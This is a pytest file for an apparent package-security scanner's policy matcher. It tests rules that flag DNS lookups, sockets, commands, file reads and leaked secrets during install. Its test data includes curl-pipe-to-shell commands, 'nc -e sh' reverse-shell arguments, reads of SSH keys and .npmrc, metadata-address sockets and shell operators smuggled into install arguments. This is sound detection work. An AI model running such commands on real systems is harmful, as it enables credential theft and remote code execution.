"""Which observations a rule matches: every condition, every scope, counting, correlation, hostile text."""

import pytest

from scangate.errors import PolicyError
from scangate.models.analysis import Analysed, Engine, Phase
from scangate.models.lockfile import Dependency, Ecosystem, Kind, LockFact, Lockfile
from scangate.models.observations import (
    BaitSeen,
    CommandRun,
    FileTouched,
    HostContacted,
    LastPyMileHit,
    Network,
    Observation,
    PackagePresent,
    SocketOpened,
)
from scangate.models.verdict import Severity
from scangate.policy.matcher import Matcher
from scangate.policy.patterns import PatternSet
from tests.policy.kit import evidence, found, other_package, package, policy, rule, rules


def host(name: str, phase: Phase = Phase.INSTALL, via: tuple[str, ...] = ("dns",), *types: str) -> HostContacted:
    return HostContacted(phase=phase, host=name, via=via, record_types=types)


def socket(address: str, port: int = 443, network: Network = Network.PUBLIC, *names: str) -> SocketOpened:
    return SocketOpened(phase=Phase.INSTALL, address=address, port=port, network=network, hostnames=names)


def command(*argv: str, phase: Phase = Phase.INSTALL) -> CommandRun:
    return CommandRun(phase=phase, argv=argv)


def file(path: str, how: str = "r", phase: Phase = Phase.INSTALL) -> FileTouched:
    return FileTouched(phase=phase, path=path, read="r" in how, write="w" in how, delete="d" in how)


def bait(name: str = "AWS_SECRET_ACCESS_KEY", where: str = "argv") -> BaitSeen:
    return BaitSeen(phase=Phase.IMPORT, bait=name, where=where, encoding="raw")


def hit(test: str = "", *, path: str = "setup.py", in_: str = "high_risk", added: bool = True) -> LastPyMileHit:
    return LastPyMileHit(release="a-1.tar.gz", list=in_, file=path, test_id="B1", test_name=test, added=added)


MATCHING: list[tuple[str, Observation, bool]] = [
    # host
    ("observe: host", host("a.example"), True),
    ("observe: host, match: {host: '^a[.]'}", host("a.example"), True),
    ("observe: host, match: {host: '^a[.]'}", host("b.a.example"), False),
    ("observe: host, match: {suffix: a.example}", host("a.example"), True),
    ("observe: host, match: {suffix: a.example}", host("x.y.a.example"), True),
    ("observe: host, match: {suffix: a.example}", host("ba.example"), False),
    ("observe: host, match: {suffix: a.example}", host("example"), False),
    ("observe: host, match: {suffix: [b.example, a.example]}", host("a.example"), True),
    ("observe: host, match: {suffix: example}", host("deep.a.example"), True),
    ("observe: host, match: {suffix: 'A.Example'}", host("a.example"), True),
    ("observe: host, match: {suffix: example}", host(""), False),
    ("observe: host, match: {label: '^[0-9a-f]{24,}$'}", host("0123456789abcdef01234567.a.example"), True),
    ("observe: host, match: {label: '^[0-9a-f]{24,}$'}", host("0123456789abcdef.01234567.a.example"), False),
    ("observe: host, match: {record-type: [TXT, NULL]}", host("a.example", Phase.INSTALL, ("dns",), "A", "TXT"), True),
    ("observe: host, match: {record-type: TXT}", host("a.example", Phase.INSTALL, ("dns",), "txt"), True),
    ("observe: host, match: {record-type: TXT}", host("a.example", Phase.INSTALL, ("dns",), "A"), False),
    ("observe: host, match: {via: socket}", host("a.example", Phase.INSTALL, ("dns", "socket")), True),
    ("observe: host, match: {via: socket}", host("a.example"), False),
    ("observe: host, phases: [import, execute], match: {suffix: a.example}", host("a.example"), False),
    ("observe: host, phases: [import, execute]", host("a.example", Phase.EXECUTE), True),
    ("observe: host, match: {suffix: a.example}, unless: {host: '^ok'}", host("ok.a.example"), False),
    ("observe: host, match: {suffix: a.example}, unless: {host: '^ok', via: socket}", host("ok.a.example"), True),
    ("observe: host, unless: [{suffix: b.example}, {suffix: a.example}]", host("a.example"), False),
    # socket
    ("observe: socket, match: {address: 169.254.169.254}", socket("169.254.169.254"), True),
    ("observe: socket, match: {address: 169.254.169.254}", socket("::ffff:169.254.169.254"), True),
    ("observe: socket, match: {address: 169.254.169.254}", socket("169.254.169.25"), False),
    ("observe: socket, match: {address: [198.51.100.0/24, 192.0.2.0/24]}", socket("192.0.2.77"), True),
    ("observe: socket, match: {address: 192.0.2.0/24}", socket("192.0.3.1"), False),
    ("observe: socket, match: {address: 'fd00:ec2::254'}", socket("fd00:ec2:0:0::254"), True),
    ("observe: socket, match: {address: 'fe80::/10'}", socket("fe80::1%eth0"), True),
    ("observe: socket, match: {address: '::/0'}", socket("192.0.2.1"), False),
    ("observe: socket, match: {address: 0.0.0.0/0}", socket("/run/some.sock"), False),
    ("observe: socket, match: {port: [4444, 443]}", socket("192.0.2.1"), True),
    ("observe: socket, match: {port: 4444}", socket("192.0.2.1"), False),
    ("observe: socket, match: {port-not: [80, 443]}", socket("192.0.2.1", 8080), True),
    ("observe: socket, match: {port-not: [80, 443]}", socket("192.0.2.1", 443), False),
    ("observe: socket, match: {network: public, named: false}", socket("192.0.2.1"), True),
    ("observe: socket, match: {network: public, named: false}", socket("192.0.2.1", 443, Network.PUBLIC, "a"), False),
    ("observe: socket, match: {network: [private, loopback]}", socket("192.0.2.1"), False),
    # command
    ("observe: command, match: {cmdline: 'curl.*[|] *sh'}", command("sh", "-c", "curl a.example | sh"), True),
    ("observe: command, match: {cmdline: 'curl.*[|] *sh'}", command("sh", "-c", "curl a.example \n|sh"), True),
    ("observe: command, match: {cmdline: '^curl -d$'}", command("curl", "-d"), True),
    ("observe: command, match: {argv0: '^(nc|ncat)$'}", command("/usr/bin/nc", "-e"), True),
    ("observe: command, match: {argv0: '^(nc|ncat)$'}", command("sync"), False),
    ("observe: command, match: {argv0: '^(nc|ncat)$'}", command(), False),
    ("observe: command, match: {arg: '^-e$'}", command("nc", "-e", "sh"), True),
    ("observe: command, match: {arg: '^-e$'}", command("nc", "-e sh"), False),
    ("observe: command, match: {cmdline: make}, unless: {cmdline: '^make$', plain: true}", command("make"), False),
    ("observe: command, match: {cmdline: '^make {name}$'}", command("make", "left-pad"), True),
    ("observe: command, match: {cmdline: '^make {name}$'}", command("make", "left_pad"), False),
    ("observe: command, match: {cmdline: ['^never$', '^make {name}$']}", command("never"), True),
    ("observe: command, match: {cmdline: '^get {name}@{version}$'}", command("get", "left-pad@1.3.0"), True),
    ("observe: command, match: {cmdline: '^get {name}@{version}$'}", command("get", "left-pad@1x3x0"), False),
    # file
    ("observe: file, match: {path: '/[.]ssh/id_rsa$', read: true}", file("/root/.ssh/id_rsa"), True),
    ("observe: file, match: {path: '/[.]ssh/id_rsa$', write: true}", file("/root/.ssh/id_rsa"), False),
    ("observe: file, match: {write: true, delete: false}", file("/tmp/x", "rw"), True),
    ("observe: file, match: {write: true, delete: false}", file("/tmp/x", "rwd"), False),
    ("observe: file, match: {path: '/node_modules/{name}/'}", file("/x/node_modules/left-pad/a.js"), True),
    # bait
    ("observe: bait", bait(), True),
    ("observe: bait, match: {bait: '^AWS_', where: [host, argv]}", bait(), True),
    ("observe: bait, match: {where: host}", bait(), False),
    # lastpymile
    ("observe: lastpymile, match: {list: phantom}", hit(in_="phantom"), True),
    ("observe: lastpymile, match: {list: phantom}", hit(), False),
    ("observe: lastpymile, match: {file: '(^|/)setup[.]py$', added: true}", hit(), True),
    ("observe: lastpymile, match: {added: true}", hit(added=False), False),
    ("observe: lastpymile, match: {test: exec}", hit("exec_used"), True),
    ("observe: lastpymile, match: {test: '^B1$'}", hit("exec_used"), True),
    ("observe: lastpymile, match: {test: '.'}", hit(""), True),
    # another kind
    ("observe: host", file("/a"), False),
]


@pytest.mark.parametrize(("test", "observation", "matches"), MATCHING)
def test_conditions(test: str, observation: Observation, matches: bool) -> None:
    assert evidence(rule(test), observation) == ({observation} if matches else set())


@pytest.mark.parametrize("operator", [";", "&", "&&", "|", "`id`", "$(id)", "<", ">", "\n", "\r"])
def test_an_excuse_for_plain_commands_is_void_where_a_shell_has_a_say(operator: str) -> None:
    excused = rule("observe: command, unless: {cmdline: '^npm install', plain: true}")
    assert evidence(excused, command("npm", "install")) == set()
    smuggled = command("npm", "install", f"x{operator}y")
    assert evidence(excused, smuggled) == {smuggled}


def test_a_newline_or_a_broken_character_hides_nothing() -> None:
    """`.` matches a newline, and what stands for a byte that is no UTF-8."""
    downloads = rule(r"observe: command, match: {cmdline: 'curl.*\|\s*sh'}")
    for between in ("\n", "\r\n", "\x00", "\ud800", "\udcff", "\u2028", "\U0010ffff"):
        sly = command("sh", "-c", f"curl{between}a.example|sh")
        assert evidence(downloads, sly) == {sly}, between


@pytest.mark.parametrize("text", ["\ud800", "\udfff\x00", "\x00", "x" * 300_000, "é" * 3, ""])
def test_no_text_breaks_the_matcher(text: str) -> None:
    anything = rules("""
        - {id: h, title: H, severity: low, observe: host, match: {host: 'zzz', label: 'z', suffix: z.example}}
        - {id: s, title: S, severity: low, observe: socket, match: {address: 192.0.2.1}}
        - {id: c, title: C, severity: low, observe: command, match: {cmdline: zzz, argv0: z, arg: '{name}{version}'}}
        - {id: p, title: P, severity: low, observe: file, match: {path: zzz}}
        - {id: k, title: K, severity: low, observe: package, packages: 'pkg:npm/*@1'}
    """)
    seen = (host(text), socket(text), command(text, text), file(text))
    assert found(anything, *seen, name=text, version=text) == ()


def test_placeholders_are_the_packages_own_and_escaped() -> None:
    installs = rule("observe: command, unless: {cmdline: '^npm install {name}@{version}$', plain: true}")
    own, other = command("npm", "install", "a.b+c@1.0+x"), command("npm", "install", "axb+c@1.0+x")
    assert evidence(installs, own, other, name="a.b+c", version="1.0+x") == {other}
    # Compiled for each package anew.
    matcher = Matcher(installs.rules)
    assert matcher.findings(package("a.b+c", "1.0+x", observations=[own])) == ()
    assert len(matcher.findings(package("left-pad", observations=[own]))) == 1


def test_a_python_package_is_recognised_in_every_spelling() -> None:
    installs = rule("observe: command, unless: {cmdline: '^pip install {name}$'}")
    spellings = [command("pip", "install", name) for name in ("acme-tool", "Acme_Tool", "ACME.tool", "acme--tool")]
    other = command("pip", "install", "acmextool")
    assert evidence(installs, *spellings, other, name="acme-tool", ecosystem=Ecosystem.PYPI) == {other}


@pytest.mark.parametrize(("name", "version"), [("left-pad", None), ("x" * 5000, "1")])
def test_a_placeholder_without_a_value_excuses_nothing(name: str, version: str | None) -> None:
    installs = rule("observe: command, unless: {cmdline: ['^install {name}']}")
    run = command("install", name)
    assert evidence(installs, run, name=name, version=version) == {run}


def test_all_that_a_rule_matches_is_one_finding_sorted_and_without_doubles() -> None:
    late, early = host("a.example", Phase.IMPORT), host("z.example", Phase.INSTALL)
    (finding,) = found(rule("observe: host, description: D., advice: A."), late, early, late)
    assert finding.evidence == (early, late)
    assert (finding.rule, finding.title, finding.severity) == ("the-rule", "The rule", Severity.HIGH)
    assert (finding.description, finding.advice, finding.engine) == ("D.", "A.", Engine.DYNAMIC_ANALYSIS)
    assert (str(finding.decided_by), finding.allowed) == ("scangate.yml:5", None)


def test_every_rule_that_matches_is_a_finding() -> None:
    both = rules("""
        - {id: b, title: B, severity: low, observe: host, match: {suffix: a.example}}
        - {id: a, title: A, severity: low, observe: host, match: {suffix: a.example}}
    """)
    assert [finding.rule for finding in found(both, host("a.example"))] == ["a", "b"]


def test_engines_have_findings_of_their_own() -> None:
    seen = (Analysed(engine=engine, observations=(host("a.example"),)) for engine in Engine)
    findings = Matcher(rule("observe: host").rules).findings(package(results=tuple(seen)))
    assert [finding.engine for finding in findings] == [Engine.DYNAMIC_ANALYSIS, Engine.LASTPYMILE]


# ------------------------------------------------------------------------------------------------ scope


def test_ecosystems_and_packages_narrow_a_rule() -> None:
    narrow = rule("observe: host, ecosystems: npm, packages: ['pkg:npm/left-*', 'pkg:pypi/left-*']")
    seen = host("a.example")
    assert evidence(narrow, seen) == {seen}
    assert evidence(narrow, seen, name="right-pad") == set()
    assert evidence(narrow, seen, ecosystem=Ecosystem.PYPI) == set()
    assert evidence(rule("observe: host, ecosystems: pypi"), seen) == set()
    assert evidence(rule("observe: host, packages: 'pkg:npm/left-pad@1.3.0'"), seen) == {seen}
    assert evidence(rule("observe: host, packages: 'pkg:npm/left-pad@1.3.1'"), seen) == set()


@pytest.mark.parametrize("kind", [kind for kind in Kind if kind is not Kind.REGISTRY])
def test_a_ban_holds_wherever_the_package_comes_from(kind: Kind) -> None:
    """And where nothing could be analysed."""
    ban = rule("observe: package, packages: ['pkg:npm/left-pad@*', 'pkg:npm/@acme/*']")
    for name in ("left-pad", "@acme/ui"):
        (finding,) = Matcher(ban.rules).findings(other_package(kind, name))
        assert finding.evidence == (PackagePresent(name=name, version=None),)
        assert finding.engine is None
    assert Matcher(ban.rules).findings(other_package(kind, "right-pad")) == ()


def test_a_ban_holds_without_results_and_for_one_version() -> None:
    ban = rule("observe: package, packages: 'pkg:npm/left-pad@1.3.0'")
    assert len(Matcher(ban.rules).findings(package(results=()))) == 1
    assert Matcher(ban.rules).findings(package(version="1.3.1", results=())) == ()


# --------------------------------------------------------------------------------------------- lockfiles


def test_facts_of_lockfile_entries_belong_to_the_package() -> None:
    confusion = LockFact(check="confusion", detail="…", line=7)
    watching = rule("observe: lockfile, match: {check: confusion}")
    (finding,) = Matcher(watching.rules).findings(
        other_package(Kind.PRIVATE_REGISTRY, "acme", facts=(confusion, LockFact(check="extra-index", detail="…")))
    )
    assert finding.evidence == (confusion,)
    assert finding.engine is None


def test_facts_of_lockfiles_belong_to_the_lockfile() -> None:
    fact = LockFact(check="extra-index", detail="…")
    entry = Dependency(ecosystem=Ecosystem.PYPI, name="a", version="1", kind=Kind.REGISTRY, purl="pkg:pypi/a@1")
    lockfile = Lockfile(path="requirements.txt", format="requirements", dependencies=(entry,), facts=(fact,))

    def matched(text: str, of: Lockfile = lockfile) -> list[str]:
        return [finding.rule for finding in Matcher(rule(text).rules).lockfile_findings(of)]

    assert matched("observe: lockfile, match: {check: extra-index}") == ["the-rule"]
    assert matched("observe: lockfile, match: {check: confusion}") == []
    assert matched("observe: lockfile, ecosystems: pypi") == ["the-rule"]
    assert matched("observe: lockfile, ecosystems: npm") == []
    assert matched("observe: lockfile, packages: 'pkg:pypi/a'") == []
    # Nothing says of which ecosystem an empty lockfile is: every rule holds.
    empty = Lockfile(path="requirements.txt", format="requirements", facts=(fact,))
    assert matched("observe: lockfile, ecosystems: npm", empty) == ["the-rule"]


# ------------------------------------------------------------------------------------ counting, correlation


def test_counting_distinct_values() -> None:
    recon = rule("observe: command, match: {argv0: '^(id|ps|w)$'}, at-least: {count: 2, distinct: argv0}")
    assert evidence(recon, command("id"), command("id", "-u"), command("ls")) == set()
    seen = (command("id"), command("/bin/ps"), command("ls"))
    assert evidence(recon, *seen) == set(seen[:2])


def test_counting_within_a_domain() -> None:
    fanout = rule("observe: host, at-least: {count: 3, distinct: host, per: domain}")
    spread = [host(f"{name}.example") for name in "abc"]
    assert evidence(fanout, *spread) == set()
    narrow = [host(f"{name}.evil.example") for name in ("a", "b", "x.y")]
    assert evidence(fanout, *narrow, *spread) == set(narrow)
    assert evidence(fanout, *narrow[:2], narrow[0]) == set()
    # Two owners below one shared suffix are no fan-out of one domain, three hosts of one owner are.
    assert evidence(fanout, *(host(f"{name}.co.uk") for name in "abc")) == set()
    assert evidence(fanout, *(host(f"{name}.a.co.uk") for name in "abc")) != set()


def test_counting_ports_and_addresses() -> None:
    scan = rule("observe: socket, match: {network: private}, at-least: {count: 2, distinct: address}")
    one, two = socket("10.0.0.1", 22, Network.PRIVATE), socket("10.0.0.1", 23, Network.PRIVATE)
    assert evidence(scan, one, two) == set()
    ports = rule("observe: socket, match: {network: private}, at-least: {count: 2, distinct: port}")
    assert evidence(ports, one, two) == {one, two}


def test_excused_observations_do_not_count() -> None:
    counted = "observe: command, match: {argv0: '^(id|ps)$'}, at-least: {count: 2, distinct: argv0}"
    assert evidence(rule(counted), command("id"), command("ps")) != set()
    recon = rule(counted + ", unless: {cmdline: '^ps$'}")
    assert evidence(recon, command("id"), command("ps")) == set()


def test_lastpymile_tests_together_in_one_file() -> None:
    loader = rule("observe: lastpymile, match: {added: true, together: [[exec, eval], b64decode]}")
    run, decode, other = hit("exec_used"), hit("b64decode"), hit("md5")
    assert evidence(loader, run, decode, other) == {run, decode}
    assert evidence(loader, run, hit("b64decode", path="other.py")) == set()
    assert evidence(loader, run, hit("b64decode", added=False)) == set()
    assert evidence(loader, run, other) == set()


CHAIN = """
    - {id: reads, title: R, severity: low, observe: file, match: {path: '[.]npmrc$'}}
    - {id: talks, title: T, severity: low, observe: host}
    - {id: lists, title: L, severity: low, observe: command}
    - {id: steal, title: S, severity: critical, all-of: [[reads, lists], talks]}
"""


def test_a_correlation_needs_a_finding_of_each_group_and_shows_all_of_them() -> None:
    chain = rules(CHAIN)
    npmrc, there, ls = file("/root/.npmrc"), host("a.example", Phase.IMPORT), command("ls")

    def correlated(*seen: Observation) -> tuple[Observation, ...]:
        return next((each.evidence for each in found(chain, *seen) if each.rule == "steal"), ())

    assert correlated(npmrc) == correlated(there) == correlated(npmrc, ls) == ()
    assert set(correlated(npmrc, there)) == {npmrc, there}
    assert set(correlated(npmrc, there, ls)) == {npmrc, there, ls}


def test_a_correlation_sees_across_engines_and_lockfiles() -> None:
    chain = rules("""
        - {id: a, title: A, severity: low, observe: host}
        - {id: b, title: B, severity: low, observe: lastpymile}
        - {id: c, title: C, severity: low, all-of: [a, b]}
        - {id: d, title: D, severity: low, all-of: [c], ecosystems: npm}
        - {id: e, title: E, severity: low, all-of: [c], ecosystems: pypi}
    """)
    results = (
        Analysed(engine=Engine.DYNAMIC_ANALYSIS, observations=(host("a.example"),)),
        Analysed(engine=Engine.LASTPYMILE, observations=(hit(),)),
    )
    findings = {each.rule: each for each in Matcher(chain.rules).findings(package(results=results))}
    assert set(findings) == {"a", "b", "c", "d"}
    assert findings["c"].engine is findings["d"].engine is None
    assert findings["d"].evidence == findings["c"].evidence


def test_the_place_of_a_built_in_rule_is_default() -> None:
    assert {each.rule: str(each.decided_by) for each in found(policy(""), bait())}["bait-secret"] == "default"


# ------------------------------------------------------------------------------------------------ bounds


def test_thousands_of_patterns_are_all_asked() -> None:
    patterns = PatternSet(f"^x{number}$".encode() for number in range(3000))
    assert all(list(patterns.found_in(f"x{number}")) == [number] for number in range(0, 3000, 7))
    assert list(patterns.found_in("x")) == []


def test_patterns_that_together_are_too_large_for_one_set_are_split() -> None:
    """Twelve of any letter is half a megabyte of states: one set does not hold 30 of them."""
    patterns = PatternSet(f"^{number}x\\pL{{12}}$".encode() for number in range(30))
    assert [list(patterns.found_in(f"{number}xabcdefghijkü")) for number in range(30)] == [[each] for each in range(30)]


def test_a_pattern_that_no_set_can_hold_is_an_error_of_the_caller() -> None:
    with pytest.raises(ValueError, match="cannot be compiled"):
        PatternSet([b"(unclosed"])


def test_a_pattern_that_explodes_elsewhere_takes_linear_time() -> None:
    """Under a backtracking matcher this test would not end."""
    evil = rule("observe: command, match: {cmdline: '^(a+)+$'}")
    long = command("a" * 200_000 + "!")
    assert evidence(evil, long) == set()


def test_a_rule_without_a_test_cannot_be_read() -> None:
    with pytest.raises(PolicyError, match="needs 'observe'"):
        rule("description: x")
